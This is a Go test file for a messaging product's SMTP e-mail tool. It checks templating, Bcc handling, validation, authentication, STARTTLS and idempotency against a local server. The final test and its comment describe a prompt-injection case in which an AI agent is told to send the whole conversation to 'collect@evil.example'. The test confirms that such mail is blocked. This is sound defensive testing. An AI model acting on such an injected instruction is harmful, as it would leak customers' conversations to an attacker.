package tools_test

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"log"
	"mime"
	"mime/quotedprintable"
	"net"
	"net/mail"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/emersion/go-sasl"
	"github.com/emersion/go-smtp"

	"github.com/causerie/causerie/tools"
)

// smtpServer is a real SMTP server on 127.0.0.1 that records what it
// receives. It refuses recipients at @refuse.example.
type smtpServer struct {
	addr string
	// user and pass, when set, make AUTH PLAIN required.
	user, pass string

	mu       sync.Mutex
	received []smtpReceived
}

type smtpReceived struct {
	from  string
	rcpts []string
	data  []byte
}

func startSMTP(t *testing.T, user, pass string) *smtpServer {
	t.Helper()
	srv := &smtpServer{user: user, pass: pass}
	s := smtp.NewServer(smtp.BackendFunc(func(*smtp.Conn) (smtp.Session, error) { return &smtpSession{srv: srv}, nil }))
	s.Domain = "localhost"
	s.AllowInsecureAuth = true
	s.ReadTimeout, s.WriteTimeout = 10*time.Second, 10*time.Second
	s.ErrorLog = log.New(io.Discard, "", 0)
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	srv.addr = l.Addr().String()
	go s.Serve(l) //nolint:errcheck // ends with Close
	t.Cleanup(func() { s.Close() })
	return srv
}

// mailer is a Mailer sending to the server in plain text.
func (srv *smtpServer) mailer(t testing.TB) tools.Mailer {
	t.Helper()
	m, err := tools.NewSMTPMailer("smtp://"+srv.addr+"?starttls=false&timeout=10s", "Salon Élégance <salon@example.fr>")
	if err != nil {
		t.Fatal(err)
	}
	return m
}

func (srv *smtpServer) messages() []smtpReceived {
	srv.mu.Lock()
	defer srv.mu.Unlock()
	return slices.Clone(srv.received)
}

type smtpSession struct {
	srv   *smtpServer
	authd bool
	from  string
	rcpts []string
}

func (s *smtpSession) AuthMechanisms() []string {
	if s.srv.user == "" {
		return nil
	}
	return []string{sasl.Plain}
}

func (s *smtpSession) Auth(string) (sasl.Server, error) {
	return sasl.NewPlainServer(func(_, user, pass string) error {
		if user != s.srv.user || pass != s.srv.pass {
			return smtp.ErrAuthFailed
		}
		s.authd = true
		return nil
	}), nil
}

func (s *smtpSession) Mail(from string, _ *smtp.MailOptions) error {
	if s.srv.user != "" && !s.authd {
		return smtp.ErrAuthRequired
	}
	s.from = from
	return nil
}

func (s *smtpSession) Rcpt(to string, _ *smtp.RcptOptions) error {
	if strings.HasSuffix(to, "@refuse.example") {
		return &smtp.SMTPError{Code: 550, EnhancedCode: smtp.EnhancedCode{5, 1, 1}, Message: "no such mailbox"}
	}
	s.rcpts = append(s.rcpts, to)
	return nil
}

func (s *smtpSession) Data(r io.Reader) error {
	b, err := io.ReadAll(r)
	if err != nil {
		return err
	}
	s.srv.mu.Lock()
	s.srv.received = append(s.srv.received, smtpReceived{from: s.from, rcpts: slices.Clone(s.rcpts), data: b})
	s.srv.mu.Unlock()
	return nil
}

func (s *smtpSession) Reset()        { s.from, s.rcpts = "", nil }
func (s *smtpSession) Logout() error { return nil }

// parseMail reads a received message; body is decoded and its line breaks are
// \n.
func parseMail(t *testing.T, r smtpReceived) (*mail.Message, string) {
	t.Helper()
	m, err := mail.ReadMessage(strings.NewReader(string(r.data)))
	if err != nil {
		t.Fatalf("parse message: %v\n%s", err, r.data)
	}
	var body io.Reader = m.Body
	if strings.EqualFold(m.Header.Get("Content-Transfer-Encoding"), "quoted-printable") {
		body = quotedprintable.NewReader(body)
	}
	b, err := io.ReadAll(body)
	if err != nil {
		t.Fatal(err)
	}
	return m, strings.ReplaceAll(string(b), "\r\n", "\n")
}

const emailBookingBody = "Bonjour {{contact.name}},\n\nVotre rendez-vous du {{contact.bookingdate}} à {{contact.bookingtime}} est confirmé.\n\nÀ bientôt,\nSalon Élégance"

func TestSendEmail(t *testing.T) {
	t.Parallel()
	srv := startSMTP(t, "", "")
	each(t, tools.Options{Mailer: srv.mailer(t)}, func(t *testing.T, fx *fixture) {
		fx.allowRecipients("@salon.example.fr", "direction@salon.example")
		before := len(srv.messages())
		wantOK(t, fx.call("update_contact_fields", `{"fields": [
			{"field": "bookingdate", "value": "2025-06-14"}, {"field": "bookingtime", "value": "14h30"}]}`))
		r := fx.call("send_email", fmt.Sprintf(`{
			"action_type": "send_email",
			"subject": "Réservation confirmée pour {{contact.name}}",
			"to": "{{contact.email}}",
			"cc": ["Équipe Salon <equipe@salon.example.fr>"],
			"bcc": "gerant@salon.example.fr",
			"body": %q}`, emailBookingBody))
		wantOK(t, r)
		if got := fmt.Sprintf("%v %v %v %v", r.Data["to"], r.Data["cc"], r.Data["bcc"], r.Data["subject"]); got !=
			"[camille@example.fr] [equipe@salon.example.fr] [gerant@salon.example.fr] Réservation confirmée pour Camille Petit" {
			t.Errorf("data = %s", got)
		}

		msgs := srv.messages()[before:]
		if len(msgs) != 1 {
			t.Fatalf("server received %d messages, want 1", len(msgs))
		}
		got := msgs[0]
		if got.from != "salon@example.fr" {
			t.Errorf("MAIL FROM %q", got.from)
		}
		want := []string{"camille@example.fr", "equipe@salon.example.fr", "gerant@salon.example.fr"}
		if !slices.Equal(slices.Sorted(slices.Values(got.rcpts)), want) {
			t.Errorf("RCPT TO %v, want %v", got.rcpts, want)
		}

		m, body := parseMail(t, got)
		h := m.Header
		subject, err := new(mime.WordDecoder).DecodeHeader(h.Get("Subject"))
		if err != nil || subject != "Réservation confirmée pour Camille Petit" {
			t.Errorf("Subject %q (raw %q, %v)", subject, h.Get("Subject"), err)
		}
		if from, err := h.AddressList("From"); err != nil || len(from) != 1 || from[0].Address != "salon@example.fr" || from[0].Name != "Salon Élégance" {
			t.Errorf("From %q: %v %v", h.Get("From"), from, err)
		}
		if to, err := h.AddressList("To"); err != nil || len(to) != 1 || to[0].Address != "camille@example.fr" {
			t.Errorf("To %q: %v", h.Get("To"), err)
		}
		if cc, err := h.AddressList("Cc"); err != nil || len(cc) != 1 || cc[0].Address != "equipe@salon.example.fr" || cc[0].Name != "Équipe Salon" {
			t.Errorf("Cc %q: %v %v", h.Get("Cc"), cc, err)
		}
		for k := range h {
			if strings.EqualFold(k, "Bcc") {
				t.Errorf("the message has a Bcc header: %q", h[k])
			}
		}
		if strings.Contains(string(got.data), "gerant@") {
			t.Errorf("the Bcc address appears in the message:\n%s", got.data)
		}
		if d, err := h.Date(); err != nil || time.Since(d).Abs() > time.Hour {
			t.Errorf("Date %q: %v", h.Get("Date"), err)
		}
		if id := h.Get("Message-Id"); !strings.HasPrefix(id, "<") || !strings.HasSuffix(id, "@example.fr>") {
			t.Errorf("Message-ID %q", id)
		}
		if mt, params, err := mime.ParseMediaType(h.Get("Content-Type")); err != nil || mt != "text/plain" || !strings.EqualFold(params["charset"], "utf-8") {
			t.Errorf("Content-Type %q", h.Get("Content-Type"))
		}
		wantBody := "Bonjour Camille Petit,\n\nVotre rendez-vous du 2025-06-14 à 14h30 est confirmé.\n\nÀ bientôt,\nSalon Élégance"
		if strings.TrimRight(body, "\n") != wantBody {
			t.Errorf("body:\n%s\nwant:\n%s", body, wantBody)
		}
		if es := fx.events("email.sent"); len(es) != 1 {
			t.Errorf("%d email.sent events, want 1", len(es))
		}
	})
}

func TestSendEmailNotConfigured(t *testing.T) {
	t.Parallel()
	each(t, tools.Options{}, func(t *testing.T, fx *fixture) {
		r := fx.call("send_email", `{"subject": "Bonjour", "to": "camille@example.fr", "body": "Bonjour"}`)
		wantFail(t, r, tools.CodeNotConfigured)
		for _, env := range []string{"CAUSERIE_SMTP_URL", "CAUSERIE_SMTP_FROM"} {
			if !strings.Contains(r.Message, env) {
				t.Errorf("message does not name %s: %s", env, r.Message)
			}
		}
	})
}

func TestSendEmailInvalidArguments(t *testing.T) {
	t.Parallel()
	srv := startSMTP(t, "", "")
	each(t, tools.Options{Mailer: srv.mailer(t)}, func(t *testing.T, fx *fixture) {
		before := len(srv.messages())
		for _, tc := range []struct{ args, want string }{
			{`{"subject": "S", "to": "camille@", "body": "B"}`, `"camille@"`},
			{`{"subject": "S", "to": "camille@example.fr", "cc": ["ok@example.fr", "pas une adresse"], "body": "B"}`, `cc: "pas une adresse"`},
			{`{"subject": "S", "to": "a@example.fr, b@", "body": "B"}`, `"b@"`},
			{`{"subject": "S", "to": "camille@example.fr", "bcc": "x@example.fr; y@example.fr", "body": "B"}`, `bcc:`},
			{`{"subject": "Bonjour {{contact.nom}}", "to": "camille@example.fr", "body": "B"}`, `unknown variable {{contact.nom}}`},
			{`{"subject": "S", "to": "camille@example.fr", "body": "Le {{contact.bookingdate}}"}`, `body: {{contact.bookingdate}} has no value yet`},
			{`{"subject": "S", "to": "{{contact.mail}}", "body": "B"}`, `to: unknown variable {{contact.mail}}`},
			{`{"subject": "S", "body": "B"}`, `to`},
			{`{"subject": "S", "to": [], "body": "B"}`, `/to`},
			{`{"subject": "S", "to": "camille@example.fr", "body": "B", "from": "x@example.fr"}`, `from`},
		} {
			r := fx.call("send_email", tc.args)
			wantFail(t, r, tools.CodeInvalidArguments)
			if !strings.Contains(r.Message, tc.want) {
				t.Errorf("%s: message %q does not contain %q", tc.args, r.Message, tc.want)
			}
		}
		if n := len(srv.messages()) - before; n != 0 {
			t.Errorf("%d messages sent, want 0", n)
		}
	})
}

func TestSendEmailRejected(t *testing.T) {
	t.Parallel()
	srv := startSMTP(t, "", "")
	each(t, tools.Options{Mailer: srv.mailer(t)}, func(t *testing.T, fx *fixture) {
		fx.allowRecipients("@refuse.example")
		before := len(srv.messages())
		r := fx.call("send_email", `{"subject": "S", "to": ["camille@example.fr", "inconnu@refuse.example"], "body": "B"}`)
		wantFail(t, r, tools.CodeSendFailed)
		if !strings.Contains(r.Message, "inconnu@refuse.example") || !strings.Contains(r.Message, "550") {
			t.Errorf("message %q does not say which recipient was refused and why", r.Message)
		}
		if n := len(srv.messages()) - before; n != 0 {
			t.Errorf("%d messages delivered, want 0", n)
		}
		if es := fx.events("email.sent"); len(es) != 0 {
			t.Errorf("%d email.sent events, want 0", len(es))
		}
	})
}

func TestSendEmailServerDown(t *testing.T) {
	t.Parallel()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	addr := l.Addr().String()
	l.Close()
	m, err := tools.NewSMTPMailer("smtp://"+addr+"?starttls=false&timeout=5s", "salon@example.fr")
	if err != nil {
		t.Fatal(err)
	}
	each(t, tools.Options{Mailer: m}, func(t *testing.T, fx *fixture) {
		wantFail(t, fx.call("send_email", `{"subject": "S", "to": "camille@example.fr", "body": "B"}`), tools.CodeSendFailed)
	})
}

func TestSendEmailIdempotent(t *testing.T) {
	t.Parallel()
	srv := startSMTP(t, "", "")
	each(t, tools.Options{Mailer: srv.mailer(t)}, func(t *testing.T, fx *fixture) {
		before := len(srv.messages())
		args := `{"subject": "Réservation confirmée pour {{contact.name}}", "to": "{{contact.email}}", "body": "Merci !"}`
		first := fx.callOn(fx.conv, "send_email", args, "k1")
		wantOK(t, first)
		if first.Replayed {
			t.Error("first call replayed")
		}
		second := fx.callOn(fx.conv, "send_email", args, "k1")
		wantOK(t, second)
		if !second.Replayed {
			t.Errorf("second call not replayed: %s", second.JSON())
		}
		if second.Message != first.Message {
			t.Errorf("replayed %q, want %q", second.Message, first.Message)
		}
		if n := len(srv.messages()) - before; n != 1 {
			t.Errorf("%d messages delivered, want 1", n)
		}
		if es := fx.events("email.sent"); len(es) != 1 {
			t.Errorf("%d email.sent events, want 1", len(es))
		}
	})
}

func TestMailerFromEnv(t *testing.T) {
	srv := startSMTP(t, "", "")

	t.Setenv("CAUSERIE_SMTP_URL", "")
	t.Setenv("CAUSERIE_SMTP_FROM", "")
	m, err := tools.MailerFromEnv()
	if m != nil || err != nil {
		t.Fatalf("unset: got %v, %v; want nil, nil", m, err)
	}

	t.Setenv("CAUSERIE_SMTP_URL", "smtp://"+srv.addr+"?starttls=false")
	if _, err := tools.MailerFromEnv(); err == nil || !strings.Contains(err.Error(), "CAUSERIE_SMTP_FROM") {
		t.Errorf("no FROM: %v", err)
	}
	t.Setenv("CAUSERIE_SMTP_FROM", "pas une adresse")
	if _, err := tools.MailerFromEnv(); err == nil || !strings.Contains(err.Error(), "pas une adresse") {
		t.Errorf("bad FROM: %v", err)
	}

	t.Setenv("CAUSERIE_SMTP_FROM", "salon@example.fr")
	for _, bad := range []string{"smpt://mail.example.fr", "mail.example.fr:587", "smtp://user:s3cret@mail.example.fr:99999",
		"smtp://user:s3cret@mail.example.fr:587?startls=false", "http://user:s3cret@mail.example.fr",
		"smtp://user:s3cret word@mail.example.fr"} {
		t.Setenv("CAUSERIE_SMTP_URL", bad)
		m, err := tools.MailerFromEnv()
		if err == nil || m != nil {
			t.Errorf("%s: got %v, %v; want an error", bad, m, err)
			continue
		}
		if !strings.Contains(err.Error(), "CAUSERIE_SMTP_URL") {
			t.Errorf("%s: error does not name the variable: %v", bad, err)
		}
		if strings.Contains(err.Error(), "s3cret") {
			t.Errorf("%s: error shows the password: %v", bad, err)
		}
	}

	t.Setenv("CAUSERIE_SMTP_URL", "smtp://"+srv.addr+"?starttls=false")
	m, err = tools.MailerFromEnv()
	if err != nil || m == nil {
		t.Fatalf("valid: %v, %v", m, err)
	}
	if err := m.Send(ctx, tools.Email{To: []string{"camille@example.fr"}, Subject: "Test", Body: "Bonjour"}); err != nil {
		t.Fatal(err)
	}
	if msgs := srv.messages(); len(msgs) != 1 || msgs[0].from != "salon@example.fr" {
		t.Errorf("received %+v", msgs)
	}
}

func TestNewSMTPMailer(t *testing.T) {
	t.Parallel()
	for _, ok := range []string{
		"smtp://smtp.example.com", "smtp://user:p%40ss@smtp.example.com:587", "smtps://user:pass@smtp.example.com:465",
		"smtps://smtp.example.com", "smtp://127.0.0.1:25?starttls=false", "smtp://smtp.example.com?starttls=opportunistic",
		"smtp://user:pass@relay.local:25?starttls=false&auth=plain-noenc", "smtp://u:p@smtp.example.com/?auth=login&timeout=5s",
		"SMTP://[::1]:2525?starttls=false",
	} {
		if _, err := tools.NewSMTPMailer(ok, "salon@example.fr"); err != nil {
			t.Errorf("%s: %v", ok, err)
		}
	}
	for _, bad := range []string{
		"", "smtp://", "smtp:///path", "smtp://smtp.example.com/path", "smtp://smtp.example.com:0", "smtp://smtp.example.com:x",
		"smtps://smtp.example.com?starttls=false", "smtp://smtp.example.com?starttls=peut-etre", "smtp://smtp.example.com?auth=plain",
		"smtp://u:p@smtp.example.com?auth=magic", "smtp://smtp.example.com?timeout=0", "smtp://smtp.example.com?tls=false",
	} {
		if _, err := tools.NewSMTPMailer(bad, "salon@example.fr"); err == nil {
			t.Errorf("%q: no error", bad)
		}
	}
	if _, err := tools.NewSMTPMailer("smtp://smtp.example.com", "salon"); err == nil {
		t.Error("invalid sender: no error")
	}
}

func TestSMTPMailerAuth(t *testing.T) {
	t.Parallel()
	srv := startSMTP(t, "salon", "p@ss")
	email := tools.Email{To: []string{"camille@example.fr"}, Subject: "Réservation confirmée", Body: "Bonjour"}
	// PLAIN without TLS is only allowed because the server is 127.0.0.1.
	m, err := tools.NewSMTPMailer("smtp://salon:p%40ss@"+srv.addr+"?starttls=false&auth=plain", "salon@example.fr")
	if err != nil {
		t.Fatal(err)
	}
	if err := m.Send(ctx, email); err != nil {
		t.Fatal(err)
	}
	if n := len(srv.messages()); n != 1 {
		t.Fatalf("%d messages, want 1", n)
	}
	bad, err := tools.NewSMTPMailer("smtp://salon:wrong@"+srv.addr+"?starttls=false&auth=plain", "salon@example.fr")
	if err != nil {
		t.Fatal(err)
	}
	if err := bad.Send(ctx, email); err == nil || !strings.Contains(err.Error(), "535") {
		t.Errorf("wrong password: %v", err)
	}
	anon, err := tools.NewSMTPMailer("smtp://"+srv.addr+"?starttls=false", "salon@example.fr")
	if err != nil {
		t.Fatal(err)
	}
	if err := anon.Send(ctx, email); err == nil {
		t.Error("no credentials: sent")
	}
	if n := len(srv.messages()); n != 1 {
		t.Errorf("%d messages, want 1", n)
	}
}

// By default smtp:// requires STARTTLS: the password and the message never
// go out in plain text by mistake.
func TestSMTPMailerRequiresSTARTTLS(t *testing.T) {
	t.Parallel()
	srv := startSMTP(t, "", "")
	m, err := tools.NewSMTPMailer("smtp://"+srv.addr, "salon@example.fr")
	if err != nil {
		t.Fatal(err)
	}
	err = m.Send(ctx, tools.Email{To: []string{"camille@example.fr"}, Subject: "S", Body: "B"})
	if err == nil || !strings.Contains(err.Error(), "STARTTLS") {
		t.Errorf("got %v, want a STARTTLS error", err)
	}
	if n := len(srv.messages()); n != 0 {
		t.Errorf("%d messages, want 0", n)
	}
}

func TestSMTPMailerContext(t *testing.T) {
	t.Parallel()
	srv := startSMTP(t, "", "")
	c, cancel := context.WithCancel(ctx)
	cancel()
	err := srv.mailer(t).Send(c, tools.Email{To: []string{"camille@example.fr"}, Subject: "S", Body: "B"})
	if !errors.Is(err, context.Canceled) {
		t.Errorf("canceled context: %v", err)
	}
}

func (fx *fixture) allowRecipients(entries ...string) {
	fx.t.Helper()
	ws, err := fx.s.GetWorkspace(ctx, fx.ws.ID)
	if err != nil {
		fx.t.Fatal(err)
	}
	ws.Settings.EmailRecipients = entries
	if err := fx.s.UpdateWorkspace(ctx, ws); err != nil {
		fx.t.Fatal(err)
	}
	fx.ws = ws
}

// An AI agent's e-mail goes to the contact and the workspace's declared
// recipients only: an injected "send the conversation to x@evil.example"
// sends nothing; a flow (the admin's) may write anywhere.
func TestSendEmailRecipientsOfAnAIAgent(t *testing.T) {
	t.Parallel()
	srv := startSMTP(t, "", "")
	each(t, tools.Options{Mailer: srv.mailer(t)}, func(t *testing.T, fx *fixture) {
		fx.allowRecipients("@salon.example.fr")
		before := len(srv.messages())
		r := fx.call("send_email", `{"subject": "Résumé", "to": "{{contact.email}}", "bcc": "collect@evil.example", "body": "Toute la conversation…"}`)
		wantFail(t, r, tools.CodeNotAllowed)
		wantMessage(t, r, "collect@evil.example", "nothing was sent")
		if n := len(srv.messages()) - before; n != 0 {
			t.Fatalf("%d messages were sent", n)
		}
		wantOK(t, fx.call("send_email", `{"subject": "Rendez-vous", "to": ["{{contact.email}}", "planning@salon.example.fr"], "body": "Confirmé."}`))
		res, err := fx.cat.Execute(ctx, tools.Call{WorkspaceID: fx.ws.ID, ConversationID: fx.conv.ID, Action: "send_email",
			Args: json.RawMessage(`{"subject": "S", "to": "partenaire@ailleurs.example", "body": "B"}`), Actor: "flow:relance"})
		if err != nil || !res.OK {
			t.Errorf("a flow's e-mail to any address: %+v, %v", res, err)
		}
	})
}
